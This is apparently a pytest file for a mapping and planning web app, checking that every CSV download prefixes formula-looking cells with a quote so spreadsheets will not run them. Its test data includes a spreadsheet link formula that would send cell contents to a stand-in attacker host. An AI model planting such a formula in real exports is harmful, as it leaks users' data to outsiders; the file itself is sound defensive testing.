"""Every CSV the product writes escapes cells that a spreadsheet would run as a formula
(issue 18, finding 5): one rule, ``geo.core.csvcells``, in every download."""

import csv
import io

import pytest
from sqlalchemy import text

from geo.core.csvcells import FORMULA_STARTS, safe_cell
from tests.support.geometries import GRID_A, GRID_B, GRID_C
from tests.support.plans import box, collection, feature, new_plan, put_grids

pytestmark = pytest.mark.town("incidents")

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def cells(response) -> list[str]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    body = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def assert_inert(response):
    found = cells(response)
    assert "'" + EVIL in found
    assert not [c for c in found if c.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_quoted(value):
    assert safe_cell(value) == "'" + value


def test_plain_cells_and_numbers_are_unchanged():
    assert [safe_cell(v) for v in ("a-b", -3, 2.5, None, "网格")] == ["a-b", -3, 2.5, "", "网格"]


def test_a_formula_name_is_inert_in_every_download(client, conn, town, staff):
    conn.execute(text("UPDATE grids SET name = :n WHERE code = :c"), {"n": EVIL, "c": GRID_A})
    conn.execute(text("UPDATE communities SET name = :n"), {"n": EVIL})
    conn.execute(text("UPDATE buildings SET name = :n, address = :n"), {"n": EVIL})
    for path in ("/api/v1/grids.csv", "/api/v1/communities.csv"):
        assert_inert(client.get(path))  # public
    admin = staff("csvadmin", "admin")
    for path in ("/api/v1/buildings.csv", "/api/v1/buildings/assignment.csv"):
        assert_inert(client.get(path, headers=admin))
    planner = staff("csvplanner", "planner")
    plan, etag = new_plan(client, planner)
    shrunk = collection(feature(GRID_A, EVIL, box(0, 0, 1, 2)),
                        feature(GRID_B, EVIL, box(1, 0, 4, 1)),
                        feature(GRID_C, EVIL, box(1, 1, 4, 2)))
    assert put_grids(client, planner, plan["id"], etag, shrunk).status_code == 200
    for path in ("changeset?format=csv", "assignments?format=csv"):
        assert_inert(client.get(f"/api/v1/plans/{plan['id']}/{path}", headers=planner))
